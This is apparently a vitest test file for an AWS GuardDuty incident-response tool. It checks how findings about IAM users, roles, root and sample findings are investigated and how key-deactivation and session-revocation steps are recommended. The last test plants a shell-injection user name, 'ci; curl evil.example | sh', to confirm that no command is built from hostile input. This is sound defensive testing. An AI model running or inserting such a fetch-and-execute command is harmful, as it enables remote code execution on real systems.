import { describe, expect, it } from 'vitest';
import { WORKSHOP as F } from '../../../src/sandbox/scenarios/workshop-facts.js';
import {
  analyseActivity,
  analyseUsage,
  assembleInvestigation,
  assessPrincipal,
  buildInvestigationReport,
  buildTimeline,
  gatherPlan,
  roleRevokeCommand,
  type ActivityEvent,
  type InvestigationFinding,
} from '../../../src/core/investigation/index.js';
import { normalizeFinding } from '../../../src/core/finding/index.js';
import { commandLines } from '../../../src/core/suggestion.js';
import { NOW, rawFinding, trailFor, workshopReport } from './fixture.js';

const base: InvestigationFinding = {
  id: 'f'.repeat(32),
  type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom',
  severity: 5,
  accountId: '111122223333',
  region: 'us-west-2',
  principal: { userName: 'u', userType: 'IAMUser', accessKeyId: 'AKIAAAAAAAAAAAAAAAAA', principalId: 'AIDA1' },
  remoteIp: '198.51.100.77',
  sample: false,
};

describe('assessPrincipal: the branch for each principal type', () => {
  it('IAM user with a long-term key: actionable', () => {
    expect(assessPrincipal(base)).toMatchObject({ kind: 'iam-user', userName: 'u', accessKeyId: 'AKIAAAAAAAAAAAAAAAAA', temporaryKey: false, actionable: true });
  });
  it('assumed role: the role from userName, the session from the principal ID', () => {
    const a = assessPrincipal({ ...base, principal: { userName: F.role.roleName, userType: 'AssumedRole', accessKeyId: F.role.sessionKeyId, principalId: `${F.role.roleId}:${F.role.instanceId}` } });
    expect(a).toMatchObject({ kind: 'assumed-role', roleName: F.role.roleName, sessionName: F.role.instanceId, temporaryKey: true, actionable: true });
    expect(gatherPlan(a)).toEqual({ trail: true, permissions: 'role', accessKeys: false, relatedFindings: true });
  });
  it('root: not actionable, nothing but the trail and related findings gathered', () => {
    const a = assessPrincipal({ ...base, principal: { userName: 'Root', userType: 'Root', accessKeyId: 'ASIAQROOTCONSOLE0EXM' } });
    expect(a.kind).toBe('root');
    expect(a.actionable).toBe(false);
    expect(gatherPlan(a)).toEqual({ trail: true, permissions: false, accessKeys: false, relatedFindings: true });
  });
  it('AWS service and sample findings: nothing gathered', () => {
    const svc = assessPrincipal({ ...base, principal: { userName: 'cloudtrail.amazonaws.com', userType: 'AWSService' } });
    expect(svc.kind).toBe('aws-service');
    expect(gatherPlan(svc)).toEqual({ trail: false, permissions: false, accessKeys: false, relatedFindings: false });
    const sample = assessPrincipal({ ...base, sample: true });
    expect(sample).toMatchObject({ kind: 'sample', actionable: false });
    expect(sample.notActionableReason).toMatch(/sample finding/);
    // Placeholders alone mark a generated finding even when the flag was lost in an export.
    expect(assessPrincipal({ ...base, principal: { userName: 'GeneratedFindingUserName', userType: 'IAMUser', accessKeyId: 'GeneratedFindingAccessKeyId' } }).kind).toBe('sample');
  });
  it('a finding about an instance has no principal', () => {
    const a = assessPrincipal({ ...base, resourceType: 'Instance', principal: null });
    expect(a.kind).toBe('no-principal');
    expect(a.notActionableReason).toBe('the finding is about an Instance resource, not an IAM principal: there is no key or session to contain');
    expect(gatherPlan(a)).toEqual({ trail: false, permissions: false, accessKeys: false, relatedFindings: false });
  });
});

describe('activity evidence on the workshop trail', () => {
  const finding = (): InvestigationFinding => ({ ...base, principal: { userName: F.compromised.userName, userType: 'IAMUser', accessKeyId: F.compromised.accessKeyId }, threatListName: F.threatListName });

  it('the threat-list IP first seen at the first cron call; before that only the corporate IP with the CI user agent', () => {
    const trail = trailFor(F.findings.unauthorizedAccessCustom);
    const ev = analyseActivity(trail.events, finding());
    const firstBad = trail.events.filter((e) => e.sourceIp === F.threatListIp).map((e) => e.time).sort()[0];
    expect(ev.malicious?.ip).toBe(F.threatListIp);
    expect(ev.malicious?.firstSeen).toBe(firstBad);
    expect(ev.before?.ips.map((p) => p.ip)).toEqual([F.corporateIp]);
    expect(ev.before?.ips[0]?.userAgents).toEqual([F.ciUserAgent]);
    expect(ev.newUserAgents).toContain(F.attackerUserAgent);
    expect(ev.newUserAgents).not.toContain(F.ciUserAgent);
    expect(ev.ips[0]).toMatchObject({ ip: F.threatListIp, findingIp: true });
    expect(ev.findings[0]).toContain(`first used the key at ${firstBad}`);
    expect(ev.findings[1]).toMatch(new RegExp(`^Before that, since .*, only ${F.corporateIp.replace(/\./g, '\\.')} \\(\\d+ calls, user agent `));
  });

  it('no earlier use: says the finding IP is the first caller', () => {
    const events: ActivityEvent[] = [{ time: '2026-11-27T10:00:00Z', region: 'us-west-2', eventSource: 'ssm.amazonaws.com', eventName: 'GetParameters', sourceIp: base.remoteIp }];
    const ev = analyseActivity(events, base);
    expect(ev.before).toBeUndefined();
    expect(ev.findings).toContain('No earlier use of the key in the window: the finding\'s IP is the first caller seen.');
  });

  it('failed console sign-ins (no errorCode) are failures: errors, a conclusion, not permission use', () => {
    const signIn = (time: string, failed: boolean): ActivityEvent => ({
      time, region: 'us-east-1', eventSource: 'signin.amazonaws.com', eventName: 'ConsoleLogin', sourceIp: '198.51.100.201', failed,
      ...(failed ? { errorMessage: 'Failed authentication' } : {}),
    });
    const events = [signIn('2026-11-27T10:00:00Z', true), signIn('2026-11-27T10:00:20Z', true), signIn('2026-11-27T10:00:40Z', false)];
    const ev = analyseActivity(events, { ...base, remoteIp: undefined });
    expect(ev.errors).toEqual([{ failure: 'Failed authentication', eventName: 'ConsoleLogin', count: 2 }]);
    expect(ev.ips[0]).toMatchObject({ ip: '198.51.100.201', count: 3, errors: 2 });
    expect(ev.apis[0]).toMatchObject({ eventName: 'ConsoleLogin', count: 3, errors: 2 });
    expect(ev.findings).toContain('2 console sign-ins failed (Failed authentication): someone may be guessing the password; check whether a sign-in succeeded after them.');
    const tl = buildTimeline(events, [], base, undefined);
    expect(tl[0]?.text).toBe('first call from 198.51.100.201: ConsoleLogin (Failed authentication)');
    // A sign-in is decided by the password and MFA, not by a policy: neither used nor denied.
    expect(analyseUsage(events, base)).toMatchObject({ used: [], denied: [] });
  });

  it('the timeline keeps the key moments, oldest first, and always the last call', () => {
    const trail = trailFor(F.findings.unauthorizedAccessCustom);
    const tl = buildTimeline(trail.events, trail.derivedCredentials, finding(), F.compromised.accessKeyId, 6);
    expect(tl).toHaveLength(6);
    expect(tl[0]?.text).toBe(`first call from ${F.corporateIp}: ${tl[0]?.text.split(': ')[1]}`);
    expect(tl.map((t) => t.time)).toEqual([...tl.map((t) => t.time)].sort());
    expect(tl[5]?.text).toMatch(/^last call: /);
  });
});

describe('used vs granted', () => {
  it('granted actions used, denied ones tried from the finding IP, calls that need no permission', async () => {
    const r = await workshopReport(F.findings.unauthorizedAccessCustom);
    const u = r.investigation.usage;
    expect(u?.used.find((x) => x.action === 'ssm:GetParameters')).toMatchObject({ granted: true, needsPermission: true });
    expect(u?.used.find((x) => x.action === 'sts:GetSessionToken')).toMatchObject({ needsPermission: false });
    expect(u?.denied.map((d) => d.action)).toEqual(expect.arrayContaining(['iam:CreateUser', 'iam:GetUser', 'dynamodb:ListTables', 's3:ListBuckets', 's3:ListBucket']));
    expect(u?.denied.find((d) => d.action === 'iam:CreateUser')).toMatchObject({ count: 40, errorCodes: ['AccessDenied'], fromFindingIp: true });
    expect(u?.grantedUnused).toBe(0);
  });
  it('without permissions: granted is unknown, not false', () => {
    const events: ActivityEvent[] = [{ time: '2026-11-27T10:00:00Z', region: 'us-west-2', eventSource: 'ssm.amazonaws.com', eventName: 'GetParameters' }];
    expect(analyseUsage(events, base).used[0]).toEqual({ action: 'ssm:GetParameters', count: 1, first: events[0]?.time, last: events[0]?.time, granted: undefined, needsPermission: true });
  });
});

describe('blast radius and recommendation', () => {
  it('IAM user: the CI workload is the blast radius; deactivate with --revoke-sessions because a session was minted', async () => {
    const r = await workshopReport(F.findings.unauthorizedAccessCustom);
    const br = r.investigation.blastRadius;
    expect(br.otherCallers).toHaveLength(1);
    expect(br.otherCallers[0]).toMatchObject({ ip: F.corporateIp, userAgents: [F.ciUserAgent], activeDuringAttack: true });
    expect(br.impact.join('\n')).toContain(`has no other active access key`);
    expect(br.impact.join('\n')).toContain('tagged Owner=ci-pipeline');
    expect(br.automationCaveats[0]).toContain(F.corporateIp);
    const rec = r.investigation.recommendation;
    expect(rec.action).toBe('deactivate-key');
    expect(commandLines(rec.commands)).toEqual([`gd-ir remediate --key ${F.compromised.accessKeyId} --user ${F.compromised.userName} --revoke-sessions`]);
    expect(commandLines(rec.watch)).toEqual([`gd-ir trail --key ${F.compromised.accessKeyId} --since 1h`, `gd-ir trail --key ${F.compromised.derivedSessionKeyId} --since 1h`]);
  });

  it('IAM user without a readable trail: no --revoke-sessions claimed, and the gap is said', async () => {
    const r = await workshopReport(F.findings.unauthorizedAccessCustom, { trail: false, warnings: [{ section: 'activity', message: 'CloudTrail could not be read' }] });
    expect(commandLines(r.investigation.recommendation.commands)).toEqual([`gd-ir remediate --key ${F.compromised.accessKeyId} --user ${F.compromised.userName}`]);
    expect(r.investigation.recommendation.rationale.join(' ')).toContain('consider --revoke-sessions anyway');
    expect(r.investigation.activity).toBeUndefined();
  });

  it('a temporary key of a user (the Kali finding): revoke the user\'s sessions, never "deactivate" an ASIA key', async () => {
    const r = await workshopReport(F.findings.hostileKali);
    expect(r.investigation.recommendation.action).toBe('revoke-user-sessions');
    expect(commandLines(r.investigation.recommendation.commands)).toEqual([`gd-ir remediate --key ${F.compromised.derivedSessionKeyId} --user ${F.compromised.userName} --revoke-sessions`]);
  });

  it('assumed role: revoke the role\'s sessions with the console\'s policy; no gd-ir remediate', async () => {
    const r = await workshopReport(F.findings.credentialExfiltration);
    const rec = r.investigation.recommendation;
    expect(rec.action).toBe('revoke-role-sessions');
    expect(commandLines(rec.commands)).toEqual([roleRevokeCommand(F.role.roleName, NOW)]);
    expect(commandLines(rec.commands)[0]).toContain(`"aws:TokenIssueTime":"${NOW.toISOString()}"`);
    expect(commandLines(rec.commands).join(' ')).not.toContain('gd-ir remediate');
    expect(rec.manualSteps.join(' ')).toContain(F.role.instanceId);
    expect(r.permissionsResult?.principal.type).toBe('role');
  });

  it('a user key that assumed a role: the role\'s sessions are revoked on the role (the user\'s deny policy does not reach them)', () => {
    // IAM evaluates a role session against the role's policies, not the calling user's:
    // https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_temp_control-access_disable-perms.html
    const assumed = (account: string, role: string, key: string) => ({
      accessKeyId: key, via: 'AssumeRole', issuedAt: '2026-11-27T10:00:00Z', assumedArn: `arn:aws:sts::${account}:assumed-role/${role}/s1`,
    });
    const inv = assembleInvestigation({
      finding: base, warnings: [], now: NOW, events: [],
      derivedCredentials: [assumed(base.accountId, 'Deployer', 'ASIAAAAAAAAAAAAAAAA1'), assumed('999988887777', 'CrossAcct', 'ASIAAAAAAAAAAAAAAAA2')],
    });
    const rec = inv.recommendation;
    expect(rec.action).toBe('deactivate-key');
    expect(commandLines(rec.commands)).toEqual([`gd-ir remediate --key ${base.principal?.accessKeyId} --user u`, roleRevokeCommand('Deployer', NOW)]);
    expect(rec.summary).toBe(`Deactivate ${base.principal?.accessKeyId} of u, revoke the sessions of the roles it assumed (Deployer, CrossAcct).`);
    expect(rec.rationale.join('\n')).toContain('It assumed role Deployer (ASIAAAAAAAAAAAAAAAA1): a role session answers to the role\'s policies, not u\'s');
    expect(rec.manualSteps[0]).toBe('In account 999988887777: revoke the active sessions of role CrossAcct (IAM console → Roles → CrossAcct → Revoke sessions).');
    // A GetSessionToken session is the user's: --revoke-sessions still applies to it.
    const both = assembleInvestigation({
      finding: base, warnings: [], now: NOW, events: [],
      derivedCredentials: [assumed(base.accountId, 'Deployer', 'ASIAAAAAAAAAAAAAAAA1'), { accessKeyId: 'ASIAAAAAAAAAAAAAAAA3', via: 'GetSessionToken', issuedAt: '2026-11-27T10:00:00Z' }],
    });
    expect(commandLines(both.recommendation.commands)).toEqual([`gd-ir remediate --key ${base.principal?.accessKeyId} --user u --revoke-sessions`, roleRevokeCommand('Deployer', NOW)]);
  });

  it('an IAM Identity Center role: no put-role-policy (IAM refuses to edit AWSReservedSSO_ roles); revoke in Identity Center', () => {
    const role = 'AWSReservedSSO_AdministratorAccess_0123456789abcdef';
    const inv = assembleInvestigation({
      finding: { ...base, principal: { userName: role, userType: 'AssumedRole', accessKeyId: 'ASIAAAAAAAAAAAAAAAA1', principalId: 'AROAEXAMPLE:alice@example.com' } },
      warnings: [], now: NOW, events: [],
    });
    expect(inv.recommendation.action).toBe('revoke-role-sessions');
    expect(commandLines(inv.recommendation.commands)).toEqual([]);
    expect(inv.recommendation.manualSteps[0]).toMatch(/^In IAM Identity Center: revoke the user's active permission-set sessions/);
    expect(inv.recommendation.rationale[0]).toContain('IAM does not let anyone edit it');
  });

  it('root: manual steps only', async () => {
    const r = await workshopReport(F.findings.rootUsage);
    expect(r.investigation.recommendation).toMatchObject({ action: 'manual-root', commands: [], watch: [] });
    expect(r.investigation.recommendation.manualSteps.join(' ')).toMatch(/MFA/);
  });

  it('sample: nothing to contain, and says why', async () => {
    const r = await workshopReport(F.findings.sample);
    expect(r.investigation.principal.kind).toBe('sample');
    expect(r.investigation.recommendation).toMatchObject({ action: 'none', commands: [], watch: [] });
    expect(r.investigation.recommendation.rationale[0]).toMatch(/sample finding/);
  });

  it('a finding from a file with a shell-hostile user name: no command is built from it', () => {
    const raw = rawFinding(F.findings.unauthorizedAccessCustom) as { resource: { accessKeyDetails: { userName: string } } };
    raw.resource.accessKeyDetails.userName = 'ci; curl evil.example | sh';
    const r = buildInvestigationReport({ finding: normalizeFinding(raw), warnings: [], now: NOW });
    expect(r.investigation.recommendation.action).toBe('none');
    expect(commandLines(r.investigation.recommendation.commands)).toEqual([]);
  });
});
